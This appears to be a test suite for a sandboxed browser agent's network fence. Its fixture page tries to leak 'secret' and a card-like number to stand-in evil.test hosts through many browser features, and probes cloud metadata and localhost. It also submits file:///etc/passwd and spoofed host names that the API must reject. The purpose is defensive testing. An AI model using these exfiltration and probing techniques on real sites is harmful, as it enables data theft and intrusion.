import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { afterAll, describe, expect, it } from 'vitest';
import { WebSocketServer } from 'ws';
import { codeRows } from '../../helpers/sandboxes.ts';
import { turn, useOperatorLab } from './operators.ts';

/** A page that uses every browser feature for sending requests, and reports the results that it can see. */
const ATTEMPTS = `<!doctype html><title>attempts</title>
<img src="http://tracker.test/pixel.png?d=4929123456789012">
<script src="https://cdn.evil.test/x.js"></script>
<link rel="stylesheet" href="http://style.evil.test/x.css">
<link rel="preconnect" href="https://preconnect.evil.test">
<iframe src="http://10.0.0.1/"></iframe>
<iframe srcdoc='<meta http-equiv="refresh" content="0;url=http://refresh.evil.test/">'></iframe>
<iframe name="f"></iframe>
<form id="form" action="http://form.evil.test/" method="post" target="f"><input name="d" value="secret"></form>
<script>
const call = (url) => fetch(url, { mode: 'no-cors' }).then(() => 'reached', () => 'failed');
const socket = (url) => new Promise((resolve) => {
  const ws = new WebSocket(url);
  ws.onmessage = ({ data }) => resolve(data);
  ws.onerror = () => resolve('failed');
});
const candidates = () => new Promise((resolve) => {
  const found = [];
  const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:stun.evil.test:3478', 'turn:turn.evil.test:3478?transport=tcp'], username: 'a', credential: 'b' }] });
  peer.onicecandidate = ({ candidate }) => (candidate ? found.push(candidate.candidate) : resolve(found));
  peer.createDataChannel('d');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  setTimeout(() => resolve(found), 2_000);
});
(async () => {
  document.getElementById('form').submit();
  navigator.sendBeacon('http://beacon.evil.test/', 'secret');
  new EventSource('http://events.evil.test/').onerror = (event) => event.target.close();
  const [fetched, dns, name, decimal, meta, loop, port, plain, secure, own, peers] = await Promise.all([
    call('https://fetch.evil.test/'), call('https://dns.google/dns-query?dns=AAAB'), call('http://inside.example.test/'),
    call('http://2130706433/'), call('http://169.254.169.254/latest/meta-data'), call('http://localhost:3128/'),
    call('http://fence.test:8080/'), socket('ws://socket.evil.test/'), socket('wss://socket.evil.test/'),
    socket('ws://fence.test/socket'), candidates()]);
  await fetch('/report', { method: 'POST', body: JSON.stringify({ fetched, dns, name, decimal, meta, loop, port, plain, secure, own, peers }) });
  location.href = 'http://leave.evil.test/?d=secret';
})();
</script>`;

interface FenceSite {
  readonly port: number;
  readonly reports: Record<string, unknown>[];
  readonly close: () => void;
}

/** Starts a site with a page that tries everything, and with a WebSocket that sends a greeting. */
const startFenceSite = async (): Promise<FenceSite> => {
  const reports: Record<string, unknown>[] = [];
  const server: Server = createServer((request, response) => {
    if (request.url !== '/report') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(ATTEMPTS);
      return;
    }
    void text(request).then((body) => {
      reports.push(JSON.parse(body) as Record<string, unknown>);
      return response.end();
    });
  });
  const sockets = new WebSocketServer({ noServer: true });
  server.on('upgrade', (request, socket, head) => {
    sockets.handleUpgrade(request, socket, head, (ws) => ws.send('welcome'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = (): void => {
    server.closeAllConnections();
    server.close();
  };
  return { port: (server.address() as AddressInfo).port, reports, close };
};

const site = await startFenceSite();
afterAll(() => site.close());
const lab = await useOperatorLab({
  env: {
    EGRESS_ALLOW: 'fence.test,xn--p1b6ci4b4b3a.xn--h2brj9c',
    EGRESS_PINNED: `fence.test=127.0.0.1:${site.port}`,
  },
});

const startRun = async (allow: string, url: string): Promise<Response> =>
  lab.service.request('POST', '/v1/operators/run', { task: 'Look.', allow: [allow], url });

describe('A page that tries to call out', { timeout: 180_000 }, () => {
  it('the page reaches only allowed hosts, whichever browser feature it uses, and each attempt is a row', async () => {
    const run = await lab.run({ url: 'http://fence.test/', max_steps: 10 }, [
      turn({ action: 'wait', ms: 5_000 }),
      turn({ action: 'wait', ms: 3_000 }),
      turn({ action: 'finish', success: true, result: 'Looked.' }),
    ]);
    expect(run).toMatchObject({ status: 'done', success: true });
    const [report] = site.reports;
    expect(report).toMatchObject({ own: 'welcome', plain: 'failed', secure: 'failed' });
    // Only https requests: over plain HTTP, the proxy's refusal looks like a response from the site.
    expect(report).toMatchObject({ fetched: 'failed', dns: 'failed' });
    // Candidates have only anonymous names: they show neither an address of this machine nor an outside server's response.
    const peers = report?.['peers'] as readonly string[];
    expect(peers.filter((candidate) => !/ [\da-f-]+\.local .* typ host/.test(candidate))).toEqual([]);

    const rows = (await codeRows(lab.service, run.ledger_ref)).filter(
      ({ action }) => action === 'egress.block',
    );
    const attempted = rows.filter(({ detail }) => detail['class'] === 'attempt');
    const hosts = new Set(
      attempted.map(({ detail }) => `${String(detail['host'])} ${String(detail['rule'])}`),
    );
    for (const host of [
      'tracker.test',
      'cdn.evil.test',
      'style.evil.test',
      'refresh.evil.test',
      'form.evil.test',
      'beacon.evil.test',
      'events.evil.test',
      'fetch.evil.test',
      'dns.google',
      'inside.example.test',
      'socket.evil.test',
      'leave.evil.test',
    ]) {
      expect([...hosts], host).toContain(`${host} default-deny`);
    }
    for (const host of ['10.0.0.1', '127.0.0.1', '169.254.169.254']) {
      expect([...hosts], host).toContain(`${host} ip-literal`);
    }
    expect([...hosts]).toContain('fence.test port');
    expect(
      attempted.filter(
        ({ detail }) =>
          !/evil|tracker|dns\.google|inside|fence|localhost|^[\d.]+$/.test(String(detail['host'])),
      ),
    ).toEqual([]);
    expect(JSON.stringify(rows)).not.toContain('4929123456789012');
    expect(await lab.service.verify()).toMatchObject({ ok: true });
  });

  it('the API rejects a start page or allow list outside the team’s list', async () => {
    for (const [url, pointer] of [
      ['http://evil.test/', '/url'],
      ['http://10.0.0.1/', '/url'],
      ['http://fence.test:8080/', '/url'],
      ['file:///etc/passwd', '/url'],
    ]) {
      const response = await lab.service.request('POST', '/v1/operators/run', { task: 'Look.', url });
      expect(response.status).toBe(422);
      expect(await response.json()).toMatchObject({ errors: [{ pointer }] });
    }
    const response = await lab.service.request('POST', '/v1/operators/run', {
      task: 'Look.',
      allow: ['fence.test', 'evil.test'],
    });
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ errors: [{ pointer: '/allow/1' }] });
  });

  it('the API accepts an allow list in any case or script that means the same host, but no other host', async () => {
    const HINDI = 'उदाहरण.भारत';
    const PUNYCODE = 'xn--p1b6ci4b4b3a.xn--h2brj9c';
    for (const [allow, url] of [
      [HINDI, `http://${PUNYCODE}/`],
      [PUNYCODE, `http://${HINDI}/`],
      ['FENCE.Test', 'http://fence.test/'],
      ['fence.test.', 'http://fence.test/'],
    ] as const) {
      const response = await startRun(allow, url);
      expect([allow, response.status]).toEqual([allow, 202]);
      const { run_id } = (await response.json()) as { run_id: string };
      await lab.service.request('POST', `/v1/operators/runs/${run_id}/cancel`);
    }
    for (const allow of [
      'f\u0435nce.test',
      'https://fence.test/',
      'fence.test/path',
      'fence.test\\path',
      'fence%2Etest',
      'fence.test:8443',
      'fence.test:0443',
      '*',
      '*.test',
      '*.fence.test',
      'f*ce.test',
      '127.0.0.1',
    ]) {
      const response = await startRun(allow, 'http://fence.test/');
      expect([allow, response.status]).toEqual([allow, 422]);
      expect(await response.json()).toMatchObject({ errors: [{ pointer: '/allow/0' }] });
    }
  });
});
